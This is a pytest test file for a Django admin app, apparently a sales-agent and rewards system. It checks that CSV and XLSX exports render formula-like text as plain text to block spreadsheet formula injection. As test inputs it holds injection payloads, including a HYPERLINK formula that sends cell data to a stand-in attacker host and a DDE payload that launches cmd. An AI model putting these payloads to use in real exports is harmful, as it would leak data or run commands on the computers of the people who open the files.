"""Text that looks like a spreadsheet formula is exported as text, never as a formula (OWASP's CSV
injection advice): in CSV a cell starting with = + - @, a tab or a carriage return gets a leading
apostrophe; in XLSX it is a text cell holding exactly what was typed. Numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from console_helpers import D, give_rewards, withdraw
from django.urls import reverse

from tests.stock_helpers import receive
from weishang.channel.models import Agent
from weishang.ledger.models import Withdrawal
from weishang.rewards.models import PlanVersion, RewardKind, RewardLine, RewardStatus
from weishang.trade import services as trade
from weishang.trade.models import Order

CSV_FORMAT, XLSX_FORMAT = "0", "1"

DANGEROUS = [
    "=1+2*3",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
]


def export(client, model: str, fmt: str) -> bytes:
    url = reverse(f"admin:{model}_export")
    response = client.post(url, {"format": fmt, "resource": "0"})
    assert response.status_code == 200, response.status_code
    return response.content


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def xlsx_column(sheet, header: str) -> list:
    column = [c.column for c in sheet[1] if c.value == header][0]
    return [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]


def lines(text: str) -> str:
    """XML keeps a line break but may normalise CR LF and CR to LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture
def english(client):
    client.cookies["django_language"] = "en"


@pytest.mark.parametrize("value", DANGEROUS)
def test_withdrawal_account_name_is_text_in_csv_and_xlsx(client, finance, make_agent, english, value):
    agent = make_agent("vip", real_name="王静")
    give_rewards(agent, "500.00")
    withdrawal = withdraw(agent, "123.45")
    Withdrawal.objects.filter(pk=withdrawal.pk).update(account_name=value)  # as stored by an older release
    client.force_login(finance)

    [row] = csv_rows(export(client, "ledger_withdrawal", CSV_FORMAT))
    assert row["account holder"] == "'" + value  # a spreadsheet opens it as text
    assert row["amount"] == "123.45"  # money is still a plain number

    sheet = xlsx_sheet(export(client, "ledger_withdrawal", XLSX_FORMAT))
    [cell] = xlsx_column(sheet, "account holder")
    assert cell.data_type == "s" and lines(cell.value) == lines(value)  # the text as typed, not a formula
    [amount] = xlsx_column(sheet, "amount")
    assert amount.data_type == "n" and D(amount.value) == D("123.45")


@pytest.mark.parametrize("value", ["=1+2*3", "@cmd", "-1+1", "+86"])
def test_agent_name_is_text_in_csv_and_xlsx(client, owner, make_agent, english, value):
    agent = make_agent("vip", real_name="王静")
    Agent.objects.filter(pk=agent.pk).update(real_name=value)
    client.force_login(owner)

    [row] = csv_rows(export(client, "channel_agent", CSV_FORMAT))
    assert row["real name"] == "'" + value
    assert row["agent id"] == str(agent.pk) and row["entry order owed"] == "0.00"

    sheet = xlsx_sheet(export(client, "channel_agent", XLSX_FORMAT))
    [cell] = xlsx_column(sheet, "real name")
    assert cell.data_type == "s" and cell.value == value


def test_an_agent_name_shown_in_another_list_is_text_too(client, owner, make_agent, english):
    """The supplier and referrer columns are computed (not a model field): they are text too."""
    upline = make_agent("city", real_name="王静")
    make_agent("vip", real_name="李娜", referrer=upline)
    Agent.objects.filter(pk=upline.pk).update(real_name="=2+5")
    client.force_login(owner)
    rows = {r["agent id"]: r for r in csv_rows(export(client, "channel_agent", CSV_FORMAT))}
    assert {r["referrer"] for r in rows.values()} == {"", "'=2+5"}
    sheet = xlsx_sheet(export(client, "channel_agent", XLSX_FORMAT))
    referrers = [c for c in xlsx_column(sheet, "referrer") if c.value]
    assert [(c.value, c.data_type) for c in referrers] == [("=2+5", "s")]


@pytest.mark.parametrize("value", ["=cmd|' /C calc'!A0", "\r\n+1", "-=1"])
def test_order_address_is_text_in_csv_and_xlsx(client, owner, make_agent, sku, english, value):
    receive(sku, 10)
    order = trade.order_submit(buyer=make_agent("vip"), lines=[(sku, 1)], by=None)
    Order.objects.filter(pk=order.pk).update(ship_address=value)
    client.force_login(owner)

    [row] = csv_rows(export(client, "trade_order", CSV_FORMAT))
    assert row["address"] == "'" + value

    sheet = xlsx_sheet(export(client, "trade_order", XLSX_FORMAT))
    [cell] = xlsx_column(sheet, "address")
    assert cell.data_type == "s" and lines(cell.value) == lines(value)


def test_harmless_text_is_unchanged(client, owner, make_agent, english):
    make_agent("vip", real_name="王-静")
    client.force_login(owner)
    [row] = csv_rows(export(client, "channel_agent", CSV_FORMAT))
    assert row["real name"] == "王-静"


def test_a_negative_amount_stays_a_number(client, owner, make_agent, english):
    """A clawback is a negative Decimal: a number cell in XLSX, "-57.50" (no apostrophe) in CSV."""
    agent = make_agent("vip", real_name="王静")
    plan = PlanVersion.objects.create(
        plan_id="p", version=1, name="方案", kind="retail", jurisdiction="cn", source="x", sha256="0" * 64
    )
    RewardLine.objects.create(
        beneficiary=agent,
        amount=D("-57.50"),
        kind=RewardKind.REWARD,
        rule_id="-retail",
        plan=plan,
        source_event="e1",
        status=RewardStatus.FROZEN,
        explanation_zh="x",
        explanation_en="x",
    )
    client.force_login(owner)
    [row] = csv_rows(export(client, "rewards_rewardline", CSV_FORMAT))
    assert row["amount"] == "-57.50"
    assert row["rule"] == "'-retail"  # text beside it is still neutralised
    sheet = xlsx_sheet(export(client, "rewards_rewardline", XLSX_FORMAT))
    [amount] = xlsx_column(sheet, "amount")
    assert amount.data_type == "n" and D(amount.value) == D("-57.50")
    assert sum(D(c.value) for c in xlsx_column(sheet, "amount")) == D("-57.50")
